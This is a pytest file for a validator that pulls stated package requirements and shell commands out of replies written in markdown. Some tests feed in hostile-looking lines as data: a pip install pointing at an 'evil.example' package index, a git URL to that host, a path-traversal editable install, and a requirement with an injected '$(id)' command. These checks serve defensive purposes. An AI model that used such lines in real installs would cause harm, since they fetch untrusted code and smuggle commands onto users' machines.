"""What a reply says has to be installed, and the commands it shows, word for word."""

from __future__ import annotations

import pytest

from validator.facts import Part, Reply, RequirementSource, Submission
from validator.reading import read


def reading(text: str) -> Submission:
    return read(Reply((Part(text, "reply.md"),)))


def stated(text: str) -> list[str]:
    return [line.text for line in reading(text).requirements]


@pytest.mark.parametrize(
    "text",
    [
        "```\npygame==2.1.2\n```\n",
        "```requirements.txt\npygame==2.1.2\n```\n",
        "requirements.txt:\n```\npygame==2.1.2\n```\n",
        "**requirements.txt**\n\n```text\n# the game\npygame==2.1.2  # for the window\n```\n",
        "```bash\npip install pygame==2.1.2\n```\n",
        "```\n$ pip3 install --upgrade pygame==2.1.2\n```\n",
        "```bash\npython -m pip install -q 'pygame==2.1.2' && python game.py\n```\n",
        "```python\n!pip install pygame==2.1.2\n```\n",
        "```bash\nuv add pygame==2.1.2\n```\n",
        "First run `pip install pygame==2.1.2` in a terminal.\n",
        "First run pip install pygame==2.1.2 in a terminal.\n",
    ],
)
def test_a_requirement_is_found_wherever_it_is_stated(text):
    assert stated(text) == ["pygame==2.1.2"]


def test_a_list_of_bare_names_is_requirements_where_the_reply_says_so():
    assert stated("requirements.txt\n\n```\nnumpy\npandas\n```\n") == ["numpy", "pandas"]


def test_bare_words_are_not_requirements():
    assert stated("```\nnumpy\npandas\n```\n") == []


def test_each_package_of_a_command_is_a_line_with_its_place():
    (first, second) = reading(
        "Install:\n```bash\npip install flask 'rich[jupyter]>=13'\n```\n"
    ).requirements
    assert (first.text, second.text) == ("flask", "rich[jupyter]>=13")
    assert first.span.first == second.span.first == 3
    assert first.source is RequirementSource.COMMAND


def test_options_that_change_what_is_installed_are_kept_for_the_rules():
    text = "```bash\npip install --index-url https://evil.example -r requirements.txt flask\n```\n"
    assert stated(text) == ["--index-url https://evil.example", "flask"]


def test_hostile_lines_come_through_as_text_for_the_rules_to_refuse():
    lines = ["-e ../../etc", "git+https://evil.example/x.git", "flask==3.0 ; $(id)"]
    assert stated("requirements.txt\n```\n" + "\n".join(lines) + "\n```\n") == lines


def test_commands_lose_their_prompts_and_continued_lines_are_one():
    text = "```console\n(venv) user@host:~/game$ pip install \\\n    flask\n$ python app.py\n```\n"
    found = reading(text)
    assert [command.text for command in found.commands] == ["pip install flask", "python app.py"]
    assert (found.commands[0].span.first, found.commands[0].span.last) == (2, 3)


@pytest.mark.parametrize(
    "text",
    [
        "You can pip install the package you need.",
        "Use `x == 1` to compare.",
        "The `python` interpreter and `pip` are needed.",
    ],
)
def test_prose_installs_nothing(text):
    assert stated(text) == []
